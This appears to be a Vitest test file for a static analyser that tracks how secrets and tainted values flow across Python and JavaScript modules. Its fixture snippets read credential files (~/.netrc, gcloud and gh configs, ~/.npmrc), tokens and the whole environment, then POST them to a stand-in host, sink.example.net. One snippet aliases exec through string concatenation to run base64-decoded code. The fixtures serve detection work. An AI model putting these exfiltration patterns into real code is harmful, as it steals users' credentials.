import { describe, expect, it } from 'vitest';
import { factsOf } from '../../support/code.js';

/**
 * Per-file function summaries (docs/facts.md "Across modules"): what a function returns, which sink a
 * parameter reaches, which imported function a call names and where its result flows. No marker the
 * value models use to find them is left in the behaviours rules read.
 */

const noMarkers = (r: { behaviours: unknown[] }) =>
  expect(JSON.stringify(r.behaviours)).not.toContain('\\u0001');

describe('python summaries', () => {
  it('records the taints a function returns', async () => {
    const r = await factsOf(
      'python',
      'import os\n\ndef gather_keys():\n    with open(os.path.expanduser("~/.config/gcloud/credentials.db")) as fh:\n        return fh.read()\n\ndef version():\n    return "1.2"\n',
    );
    const s = r.modules?.summaries.find((x) => x.name === 'gather_keys');
    expect(s?.returns?.taints).toContain('secret');
    expect(r.modules?.summaries.find((x) => x.name === 'version')).toBeUndefined();
  });

  it('records the sink a parameter reaches', async () => {
    const r = await factsOf(
      'python',
      'import urllib.request\n\ndef relay(blob, tag=""):\n    urllib.request.urlopen("https://sink.example.net/in", data=blob)\n',
    );
    const s = r.modules?.summaries.find((x) => x.name === 'relay');
    expect(s?.sinks).toEqual([{ param: 0, role: 'data', behaviour: expect.any(Number) }]);
    expect(r.behaviours[s!.sinks![0]!.behaviour]?.kind).toBe('send');
    noMarkers(r);
  });

  it('records calls to imported functions and where their results flow', async () => {
    const r = await factsOf(
      'python',
      'import os, requests\nfrom .vault import pull_tokens\nfrom helpers import relay\n\nrequests.post("https://sink.example.net", json={"k": pull_tokens()})\nrelay(os.environ["GITHUB_TOKEN"])\n',
    );
    expect(r.modules?.flows).toEqual([
      { module: '.vault', name: 'pull_tokens', behaviour: expect.any(Number), role: 'data' },
    ]);
    expect(r.modules?.calls.map((c) => [c.module, c.name, c.args[0]?.taints.includes('secret')])).toEqual([
      ['helpers', 'relay', true],
    ]);
    expect(r.modules?.reexports.map((x) => x.as).sort()).toEqual(['pull_tokens', 'relay']);
    noMarkers(r);
  });
});

describe('python paths across modules', () => {
  it('keeps the secret-store default of a path an override may replace', async () => {
    const r = await factsOf(
      'python',
      'import os\nfrom pathlib import Path\n\ndef token_file():\n    return Path(os.getenv("TOOL_TOKEN_FILE") or Path.home() / ".netrc")\n\ndef login_file():\n    return os.path.join(os.environ.get("GH_HOME", os.path.expanduser("~/.config/gh")), "hosts.yml")\n\ndef cache_file():\n    return Path(os.getenv("TOOL_CACHE") or Path.home() / ".cache" / "tool.json")\n',
    );
    const paths = (n: string) => r.modules?.summaries.find((x) => x.name === n)?.paths;
    expect(paths('token_file')).toEqual(['~/.netrc']);
    expect(paths('login_file')).toEqual(['~/.config/gh/hosts.yml']);
    expect(paths('cache_file')).toBeUndefined();
  });

  it('records a read of the path an imported function returns and marks what it read', async () => {
    const r = await factsOf(
      'python',
      'import requests\nfrom .where import token_file\n\nbody = token_file().read_text()\nrequests.post("https://sink.example.net/in", data=body)\n',
    );
    expect(r.modules?.reads?.map((x) => [x.module, x.name, x.at.startLine])).toEqual([
      ['.where', 'token_file', 4],
    ]);
    expect(r.modules?.flows).toEqual([
      { module: '.where', name: 'token_file', behaviour: expect.any(Number), role: 'data', read: true },
    ]);
    noMarkers(r);
  });
});

describe('python registries and classes', () => {
  it('fills a module-level registry from decorators and calls what it holds', async () => {
    const r = await factsOf(
      'python',
      [
        'import os',
        'PLUGINS = {}',
        '',
        'def plugin(name):',
        '    def keep(fn):',
        '        PLUGINS[name] = fn',
        '        return fn',
        '    return keep',
        '',
        '@plugin("env")',
        'def env_dump():',
        '    return dict(os.environ)',
        '',
        'def gather():',
        '    out = {}',
        '    for name, make in PLUGINS.items():',
        '        out[name] = make()',
        '    return out',
      ].join('\n'),
    );
    expect(r.modules?.summaries.find((x) => x.name === 'gather')?.returns?.taints).toContain('secret');
  });

  it('records a registrar whose kept functions are called into a sink, and the decorated handler', async () => {
    const registry = await factsOf(
      'python',
      'import requests\nJOBS = []\n\ndef job(fn):\n    JOBS.append(fn)\n    return fn\n\ndef run_jobs():\n    for j in JOBS:\n        requests.post("https://sink.example.net", json=j())\n',
    );
    expect(registry.modules?.summaries.find((x) => x.name === 'job')?.sinks?.[0]).toMatchObject({
      param: 0,
      called: true,
    });
    const user = await factsOf('python', 'from jobs import job\n\n@job\ndef nightly():\n    return "ok"\n');
    expect(user.modules?.calls[0]).toMatchObject({
      module: 'jobs',
      name: 'job',
      argsFn: [{ arg: 0, fn: 'nightly' }],
    });
  });

  it('records a module-level alias of exec, and calls through a module imported from its package', async () => {
    const shim = await factsOf('python', 'import builtins\nrun_snippet = getattr(builtins, "ex" + "ec")\n');
    expect(shim.modules?.summaries).toEqual([{ name: 'run_snippet', runs: 'exec' }]);
    const user = await factsOf(
      'python',
      'import base64\nfrom tools import shim\n\nshim.run_snippet(base64.b64decode("cHJpbnQoMSk=").decode())\n',
    );
    expect(user.modules?.calls.map((c) => [c.module, c.name])).toEqual([['tools.shim', 'run_snippet']]);
  });

  it('names methods of imported classes with the instance as the first argument', async () => {
    const r = await factsOf(
      'python',
      'import os\nfrom telemetry import Client\n\nc = Client()\nc.record(os.environ["SLACK_TOKEN"])\n',
    );
    expect(r.modules?.calls.map((c) => [c.name, c.args.length])).toEqual([['Client.record', 2]]);
  });
});

describe('javascript summaries', () => {
  it('records returns, parameter sinks and imported flows', async () => {
    const r = await factsOf(
      'javascript',
      [
        "import { readFileSync } from 'node:fs';",
        "import { homedir } from 'node:os';",
        "import { stash } from './uplink.js';",
        "export const loadProfile = () => readFileSync(homedir() + '/.npmrc', 'utf8');",
        'export async function push(body) {',
        "  await fetch('https://sink.example.net/x', { method: 'POST', body: JSON.stringify({ body }) });",
        '}',
        "await fetch('https://other.example.net', { method: 'POST', body: stash() });",
      ].join('\n'),
    );
    const m = r.modules!;
    expect(m.summaries.find((x) => x.name === 'loadProfile')?.returns?.taints).toContain('secret');
    expect(m.summaries.find((x) => x.name === 'push')?.sinks?.[0]).toMatchObject({ param: 0, role: 'data' });
    expect(m.flows).toEqual([
      { module: './uplink.js', name: 'stash', behaviour: expect.any(Number), role: 'data' },
    ]);
    noMarkers(r);
  });

  it('reads CommonJS exports and re-exports', async () => {
    const r = await factsOf(
      'javascript',
      [
        "const lib = require('./lib');",
        "exports.leak = function (x) { require('https').request('https://sink.example.net', { method: 'POST' }).end(x); };",
        'module.exports.blob = lib.read();',
      ].join('\n'),
    );
    expect(r.modules?.summaries.find((x) => x.name === 'leak')?.sinks?.[0]?.param).toBe(0);
    const ts = await factsOf(
      'typescript',
      "export { gather as collect } from './inner';\nexport * from './more';\n",
    );
    expect(ts.modules?.reexports).toEqual([
      { as: 'collect', module: './inner', name: 'gather' },
      { as: '*', module: './more', name: '*' },
    ]);
  });

  it('keeps what a callback handed to an imported function returns', async () => {
    const r = await factsOf(
      'javascript',
      "import { onDone } from './hooks.js';\nonDone(() => JSON.stringify(process.env));\n",
    );
    expect(r.modules?.calls[0]?.argsFn?.[0]?.returns?.secret).toBe('env-all');
  });
});
